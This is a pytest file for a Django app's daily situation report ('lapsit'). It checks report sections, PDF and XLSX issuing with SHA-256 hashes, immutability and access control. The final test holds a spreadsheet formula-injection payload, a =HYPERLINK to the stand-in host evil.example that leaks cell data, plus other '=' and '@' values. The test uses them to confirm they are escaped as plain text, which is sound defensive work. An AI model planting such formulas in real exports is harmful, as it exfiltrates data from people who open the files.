"""The daily lapsit: a draft for a chosen day and region, issued as PDF + XLSX archived with their SHA-256 and
never changed; only people with deployment.view see it, only coordinators issue it."""

from __future__ import annotations

import hashlib
import io

import pytest
from django.test import Client
from django.utils import timezone

from praja.situation.models import Lapsit
from praja.situation.tests.conftest import World


def test_the_draft_holds_every_section_and_the_map(busy: World, polres_ops: Client) -> None:
    r = polres_ops.get("/situasi/lapsit/draf/?wilayah=35.07&catatan=Tingkatkan+patroli")
    assert r.status_code == 200
    html = r.content.decode()
    for heading in ("Periode dan situasi umum", "Situasi per kecamatan", "Kejadian dan kasus",
                    "Hoaks dan klarifikasi", "Pengamanan dan kekurangan", "Kegiatan per bidang",
                    "Catatan dan arahan pimpinan"):
        assert heading in html
    assert "Bentrok massa di TPS 1" in html and "Tingkatkan patroli" in html
    assert "Kota: tidak boleh terlihat" not in html
    assert html.count("<path d=") >= 1  # Donomulyo's outline shaded on the SVG map
    assert "DRAF" in html


def test_issuing_archives_pdf_and_xlsx_with_their_hash(busy: World, polres_ops: Client) -> None:
    from openpyxl import load_workbook

    today = timezone.localdate().isoformat()
    r = polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07", "tanggal": today,
                                                       "catatan": "Situasi aman terkendali."})
    assert r.status_code == 302
    lap = Lapsit.objects.get(audience="pimpinan")
    assert lap.number == 1 and lap.commander_notes == "Situasi aman terkendali."
    pdf = polres_ops.get(f"/situasi/lapsit/{lap.pk}/pdf/")
    assert pdf.content.startswith(b"%PDF")
    assert hashlib.sha256(pdf.content).hexdigest() == lap.pdf_sha256 == pdf["X-Content-SHA256"]
    xlsx = polres_ops.get(f"/situasi/lapsit/{lap.pk}/xlsx/")
    wb = load_workbook(io.BytesIO(xlsx.content))
    assert wb.sheetnames[:3] == ["Kecamatan", "Kejadian", "Hoaks"]
    assert [c.value for c in wb["Kecamatan"]["B"]][2:] == ["Donomulyo", "Kalipare"]
    page = polres_ops.get(f"/situasi/lapsit/{lap.pk}/").content.decode()
    assert lap.pdf_sha256 in page and "cocok dengan sidik" in page
    # A second issue of the same day is number 2; the first is unchanged.
    polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07", "tanggal": today})
    assert sorted(Lapsit.objects.values_list("number", flat=True)) == [1, 1, 2, 2]  # each with its two audiences


def test_an_issued_lapsit_refuses_update_and_delete(busy: World, polres_ops: Client) -> None:
    polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07.01"})
    lap = Lapsit.objects.get(audience="pimpinan")
    lap.commander_notes = "diubah"
    with pytest.raises(PermissionError):
        lap.save()
    with pytest.raises(PermissionError):
        lap.delete()
    with pytest.raises(PermissionError):
        Lapsit.objects.filter(pk=lap.pk).update(commander_notes="x")
    with pytest.raises(PermissionError):
        Lapsit.objects.all().delete()
    assert Lapsit.objects.get(audience="pimpinan").intact()


def test_only_coordinators_issue_and_only_deployment_viewers_see(busy: World, polsek: Client,
                                                                 polres_ops: Client) -> None:
    from praja.situation.tests.conftest import client_for, person

    assert polsek.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07.01"}).status_code == 403
    polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07"})
    lap = Lapsit.objects.get(audience="pimpinan")
    # The Polsek (deployment.view on one kecamatan) does not see the regency's lapsit.
    assert polsek.get(f"/situasi/lapsit/{lap.pk}/pdf/").status_code == 404
    camat = client_for(person("camat", busy.agencies["polsek-donomulyo"], [("camat", "35.07.01")]))
    assert camat.get("/situasi/lapsit/?wilayah=35.07.01").status_code == 403
    assert polres_ops.get(f"/situasi/lapsit/{lap.pk}/exe/").status_code == 404


def test_the_commander_issues_too(busy: World) -> None:
    from praja.situation.tests.conftest import client_for, person

    kapolres = client_for(person("kapolres", busy.agencies["polres-malang"], [("polres_leader", "35.07")]))
    r = kapolres.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07", "catatan": "Arahan Kapolres."})
    assert r.status_code == 302
    lap = Lapsit.objects.get(audience="pimpinan")
    assert lap.commander_notes == "Arahan Kapolres."
    # Signed by the configured leadership (here the Polres leader's role), not by whoever pressed the button.
    ops = client_for(person("ops2", busy.agencies["polres-malang"], [("polres_ops", "35.07")], "Iptu Budi"))
    ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07"})
    second = Lapsit.objects.get(audience="pimpinan", number=2)
    assert (second.signed_name, second.signed_position) == ("Kapolres", "Kapolres Malang")
    assert second.issued_by_name == "Iptu Budi"


def test_the_issued_pdf_is_a4_with_commitments_and_activities_per_line(busy: World, polres_ops: Client) -> None:
    import shutil
    import subprocess
    import tempfile

    from praja.situation.tests.busy import make_activity, make_rakor

    make_rakor(busy)
    make_activity("Patroli dialogis di pasar", kind="preventive", people=6)
    make_activity("Sambang tokoh agama", kind="preemptive", people=3)
    polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07"})
    pdf = polres_ops.get(f"/situasi/lapsit/{Lapsit.objects.get(audience='pimpinan').pk}/pdf/").content
    from tests.pdfs import page_sizes

    assert set(page_sizes(pdf)) == {(595, 842)}  # A4 portrait, in points
    html = polres_ops.get("/situasi/lapsit/draf/?wilayah=35.07").content.decode()
    acts = html.split("Kegiatan per bidang", 1)[1].split("Komitmen rakor", 1)[0]
    assert "<h3>Preventif</h3>" in acts and "<h3>Pre-emtif</h3>" in acts
    assert "Patroli dialogis di pasar" in acts and "6 org" in acts and "Sambang tokoh agama" in acts
    commitments = html.split("Komitmen rakor", 1)[1].split("Catatan dan arahan pimpinan", 1)[0]
    assert ">lewat tenggat: 1</text>" in commitments and ">selesai dengan bukti: 1</text>" in commitments
    assert "Pemetaan titik kampanye" in commitments  # the overdue one is listed by name
    if shutil.which("pdftotext"):  # the words in the PDF itself, where poppler is installed
        with tempfile.NamedTemporaryFile(suffix=".pdf") as f:
            f.write(pdf)
            f.flush()
            words = " ".join(subprocess.run(["pdftotext", f.name, "-"], capture_output=True, text=True,
                                            check=True).stdout.split())
        assert "Komitmen rakor" in words and "Pemetaan titik kampanye" in words
        assert "Kegiatan per bidang" in words and "Patroli dialogis di pasar" in words


def test_the_xlsx_has_a_sheet_per_section_and_every_commitment_with_its_state(busy: World,
                                                                              polres_ops: Client) -> None:
    from openpyxl import load_workbook

    from praja.situation.tests.busy import make_activity, make_rakor

    make_rakor(busy)
    make_activity("Patroli dialogis di pasar", kind="preventive", people=6)
    polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07"})
    wb = load_workbook(io.BytesIO(bytes(Lapsit.objects.get(audience="pimpinan").xlsx)))
    assert wb.sheetnames == ["Kecamatan", "Kejadian", "Hoaks", "Pengamanan", "Pos hari ini", "Kegiatan", "Komitmen"]
    kegiatan = [[c.value for c in row] for row in wb["Kegiatan"].iter_rows(min_row=3)]
    assert kegiatan == [["Preventif", "Patroli dialogis di pasar", "Pasar Donomulyo", "Donomulyo", 6]]
    komitmen = {row[1].value: row[4].value for row in wb["Komitmen"].iter_rows(min_row=3)}
    assert komitmen == {"Patroli gabungan di Donomulyo": "terbuka", "Pemetaan titik kampanye": "lewat tenggat",
                        "Sosialisasi netralitas ASN": "selesai dengan bukti"}
    assert [c.value for c in wb["Komitmen"][2]] == ["Instansi", "Keputusan", "Rakor", "Tenggat", "Status", "Ditutup"]


def test_a_lapsit_of_a_past_day_counts_a_commitment_closed_later_as_still_open(busy: World,
                                                                              polres_ops: Client) -> None:
    import datetime

    from praja.base.scope import Scope
    from praja.situation import lapsit as L
    from praja.situation.sources import Viewer
    from praja.situation.tests.busy import make_rakor
    from praja.territory.models import Region

    make_rakor(busy, hours_ago=30, decisions=[("Sosialisasi netralitas ASN", "pemprov", 20, True)])
    request = polres_ops.get("/situasi/?wilayah=35.07").wsgi_request
    viewer = Viewer.of(request)
    yesterday = timezone.localdate() - datetime.timedelta(days=1)
    ctx = L.context(viewer, Region.objects.get(code="35.07"), Scope.of(["35.07"]), yesterday)
    assert [x["state"] for x in ctx["commitments"]] == ["open"]  # closed an hour ago: open at the end of yesterday
    before = L.context(viewer, Region.objects.get(code="35.07"), Scope.of(["35.07"]),
                       timezone.localdate() - datetime.timedelta(days=3))
    assert before["commitments"] == []  # the rakor had not been held yet


def test_the_pdf_prints_twenty_clarifications_and_points_to_the_xlsx_for_the_rest(busy: World,
                                                                                 polres_ops: Client) -> None:
    import datetime

    from praja.base import audit
    from praja.infowatch.models import Clarification
    from praja.situation.tests.busy import SYSTEM

    with audit.acting_as(SYSTEM):
        for i in range(25):
            Clarification.objects.create(title=f"Klarifikasi nomor {i:02d}", body="isi", status="published",
                                         published_at=timezone.now() - datetime.timedelta(minutes=i + 1))
    html = polres_ops.get("/situasi/lapsit/draf/?wilayah=35.07").content.decode()
    section = html.split("Klarifikasi yang terbit di Info Resmi", 1)[1].split("Pengamanan dan kekurangan", 1)[0]
    assert section.count("Klarifikasi nomor") == 20
    assert "… dan 5 lagi: lihat lampiran XLSX." in section
    polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07"})
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(bytes(Lapsit.objects.get(audience="pimpinan").xlsx)))["Hoaks"]
    rows = [r[3].value for r in ws.iter_rows(min_row=3)]
    assert sum(1 for v in rows if v and v.startswith("Klarifikasi nomor")) == 25


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/leak?d="&A3,"Lihat")'


def test_a_formula_in_a_report_title_or_a_rakor_decision_stays_plain_text_in_the_lapsit_xlsx(
        busy: World, polres_ops: Client) -> None:
    """Issue 14 item 4: a public report titled =HYPERLINK(...) and a rakor decision starting with = were live
    formulas in the lapsit's annex. Each is text now, shown with an apostrophe in front, never a formula."""
    import zipfile

    from openpyxl import load_workbook

    from praja.situation.tests.busy import make_rakor, make_report

    make_report(None, "35.07.01", title=HOSTILE_TITLE)
    make_rakor(busy, decisions=[("=1+1 patroli gabungan", "polsek-donomulyo", 5, False),
                                ("@SUM(A1:A9) sosialisasi", "polres-malang", 3, False)])
    polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07"})
    raw = bytes(Lapsit.objects.get(audience="pimpinan").xlsx)
    wb = load_workbook(io.BytesIO(raw))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    titles = [c.value for c in wb["Kejadian"]["E"]]
    assert "'" + HOSTILE_TITLE in titles
    decisions = [c.value for c in wb["Komitmen"]["B"]]
    assert "'=1+1 patroli gabungan" in decisions and "'@SUM(A1:A9) sosialisasi" in decisions
    with zipfile.ZipFile(io.BytesIO(raw)) as z:  # no formula element anywhere in the workbook's XML
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.endswith(".xml"))
